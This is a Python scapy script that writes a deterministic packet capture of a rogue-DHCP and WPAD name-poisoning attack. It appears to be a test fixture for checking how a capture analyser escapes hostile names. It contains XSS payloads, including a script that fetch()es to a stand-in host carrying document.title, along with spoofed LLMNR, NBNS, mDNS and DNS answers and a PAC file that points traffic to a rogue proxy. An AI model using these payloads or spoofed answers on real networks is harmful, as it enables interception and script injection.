#!/usr/bin/python3
"""Makes captures/telling/markup.pcapng: an attack whose every name is markup. DHCP host names and option 252, LLMNR, NBNS, mDNS and DNS names,
URLs, Host, User-Agent and Server headers, and the PAC body hold HTML, script and separators of other formats.
markup.py [OUT-FOLDER]. Needs python3-scapy. Deterministic: the same octets every time."""
import os, sys
from scapy.all import BOOTP, DHCP, IP, TCP, UDP, Ether, PcapNgWriter, Raw

here = os.path.dirname(os.path.abspath(__file__))
out = sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(here)
START = 1_772_438_400.0  # 2026-03-02 08:00 UTC
GATEWAY, PC, ROGUE = "3c:52:82:11:00:01", "3c:52:82:11:00:21", "00:0c:29:6e:00:66"
GATEWAY_IP, PC_IP, ROGUE_IP = "192.168.7.1", "192.168.7.21", "192.168.7.66"
SCRIPT = "<script>fetch('http://192.0.2.1/'+document.title)</script>"
IMAGE = "\"><img src=http://192.0.2.1/x onerror=alert(document.domain)>"
SVG = "</style></title><svg onload=alert(2)>"
frames = []


def add(frame):
    frame.time = START + len(frames) * 0.05
    frames.append(frame)


def udp(mac_from, mac_to, source, target, sport, dport, payload):
    add(Ether(src=mac_from, dst=mac_to) / IP(src=source, dst=target, ttl=64, id=len(frames)) / UDP(sport=sport, dport=dport) / payload)


def dhcp(kind, server_mac, server_ip, more, name):
    chaddr = bytes.fromhex(PC.replace(":", "")) + bytes(10)
    if kind in (1, 3):
        udp(PC, "ff:ff:ff:ff:ff:ff", "0.0.0.0", "255.255.255.255", 68, 67, BOOTP(op=1, xid=77, chaddr=chaddr) / DHCP(options=[
            ("message-type", kind), ("hostname", name), ("param_req_list", [1, 3, 6, 15, 252]), "end"]))
    else:
        udp(server_mac, PC, server_ip, PC_IP, 67, 68, BOOTP(op=2, xid=77, yiaddr=PC_IP, siaddr=server_ip, chaddr=chaddr) / DHCP(options=[
            ("message-type", kind), ("server_id", server_ip), ("lease_time", 3600), ("subnet_mask", "255.255.255.0"), ("router", GATEWAY_IP)] + more + ["end"]))


def wire_name(name):
    return bytes([len(name)]) + name.encode("latin-1") + b"\0"


def netbios(name, suffix=0):
    octets = name.encode("latin-1").ljust(15)[:15] + bytes([suffix])
    return b"\x20" + b"".join(bytes([65 + (o >> 4), 65 + (o & 15)]) for o in octets) + b"\0"


def link_name(port, group, group_mac, id_, name):
    """A question of the PC to the group, and the rogue's answer: LLMNR, or mDNS with a legacy unicast reply."""
    question = name + b"\0\1\0\1"
    udp(PC, group_mac, PC_IP, group, 50000 + id_, port, Raw(id_.to_bytes(2, "big") + b"\0\0\0\1\0\0\0\0\0\0" + question))
    answer = id_.to_bytes(2, "big") + b"\x80\0\0\1\0\1\0\0\0\0" + question + name + b"\0\1\0\1\0\0\0\x1e\0\4" + bytes(int(p) for p in ROGUE_IP.split("."))
    udp(ROGUE, PC, ROGUE_IP, PC_IP, port, 50000 + id_, Raw(answer))


def nbns(id_, name):
    question = netbios(name) + b"\0\x20\0\1"
    udp(PC, "ff:ff:ff:ff:ff:ff", PC_IP, "192.168.7.255", 137, 137, Raw(id_.to_bytes(2, "big") + b"\x01\x10\0\1\0\0\0\0\0\0" + question))
    udp(ROGUE, PC, ROGUE_IP, PC_IP, 137, 137, Raw(id_.to_bytes(2, "big") + b"\x85\0\0\0\0\1\0\0\0\0" + netbios(name) + b"\0\x20\0\1\0\4\x93\xe0\0\6\0\0"
                                                  + bytes(int(p) for p in ROGUE_IP.split("."))))


def fetch(port, request, response):
    """One TCP connection of the PC to the rogue's port 80."""
    there = lambda flags, seq, ack, data=b"": add(Ether(src=PC, dst=ROGUE) / IP(src=PC_IP, dst=ROGUE_IP, id=len(frames)) / TCP(
        sport=port, dport=80, flags=flags, seq=seq, ack=ack) / Raw(data))
    back = lambda flags, seq, ack, data=b"": add(Ether(src=ROGUE, dst=PC) / IP(src=ROGUE_IP, dst=PC_IP, id=len(frames)) / TCP(
        sport=80, dport=port, flags=flags, seq=seq, ack=ack) / Raw(data))
    there("S", 1000, 0)
    back("SA", 5000, 1001)
    there("A", 1001, 5001)
    there("PA", 1001, 5001, request)
    back("PA", 5001, 1001 + len(request), response)
    there("FA", 1001 + len(request), 5001 + len(response))
    back("FA", 5001 + len(response), 1002 + len(request))


# The PC comes in under a name that is an image; a second server answers with a configuration URL that is a script.
dhcp(1, None, None, [], IMAGE)
dhcp(2, GATEWAY, GATEWAY_IP, [("name_server", GATEWAY_IP)], "")
dhcp(3, None, None, [], IMAGE)
dhcp(5, GATEWAY, GATEWAY_IP, [("name_server", GATEWAY_IP)], "")
dhcp(3, None, None, [], IMAGE)
dhcp(5, ROGUE, ROGUE_IP, [("name_server", ROGUE_IP), ("domain", SVG), (252, f"http://{ROGUE_IP}/{SCRIPT}".encode())], "")

# Names that are markup, asked by every protocol, and the rogue answers them all.
for i, name in enumerate(["wpad", SCRIPT[:63], SVG, "a|b=c\\d", "x\ty\nz\0\x1b[31m", "\u00fc\u00e9\u00ff"]):
    link_name(5355, "224.0.0.252", "01:00:5e:00:00:fc", 100 + i, wire_name(name))
link_name(5353, "224.0.0.251", "01:00:5e:00:00:fb", 200, b"\4wpad\5local\0")
link_name(5353, "224.0.0.251", "01:00:5e:00:00:fb", 201, bytes([len(SVG)]) + SVG.encode() + b"\5local\0")
for i, name in enumerate(["WPAD", "<B>BOLD</B>", "<SCRIPT>X='"]):
    nbns(300 + i, name)
zone = b"\4wpad" + bytes([len(IMAGE)]) + IMAGE.encode() + b"\7example\0"
udp(PC, ROGUE, PC_IP, ROGUE_IP, 51000, 53, Raw(b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + zone + b"\0\1\0\1"))
udp(ROGUE, PC, ROGUE_IP, PC_IP, 53, 51000, Raw(b"\x12\x34\x81\x80\0\1\0\1\0\0\0\0" + zone + b"\0\1\0\1\xc0\x0c\0\1\0\1\0\0\0\x1e\0\4" + bytes(
    int(p) for p in ROGUE_IP.split("."))))

# The PAC: its URL, the headers on both sides and its body.
body = f"""function FindProxyForURL(url, host) {{
  // </script></textarea></pre>{SCRIPT}
  if (dnsResolve(url + ".{SVG}")) return eval('"DIRECT"');
  /* {IMAGE} \u202e */ return "PROXY {IMAGE}:3128; PROXY {ROGUE_IP}:3128";
}}
""".encode()
head = f"HTTP/1.1 200 OK\r\nServer: {SCRIPT}\r\nContent-Type: application/x-ns-proxy-autoconfig\r\nContent-Length: {len(body)}\r\n\r\n".encode()
fetch(52000, f"GET /wpad.dat?{SCRIPT.replace(' ', '+')} HTTP/1.1\r\nHost: wpad{SVG.replace(' ', '/')}\r\nUser-Agent: {IMAGE}\r\nAccept: */*\r\n\r\n".encode(), head + body)

path = os.path.join(out, "telling", "markup.pcapng")
os.makedirs(os.path.dirname(path), exist_ok=True)
writer = PcapNgWriter(path)
for frame in frames:
    writer.write(frame)
writer.close()
print(f"{path}: {len(frames)} packets", file=sys.stderr)
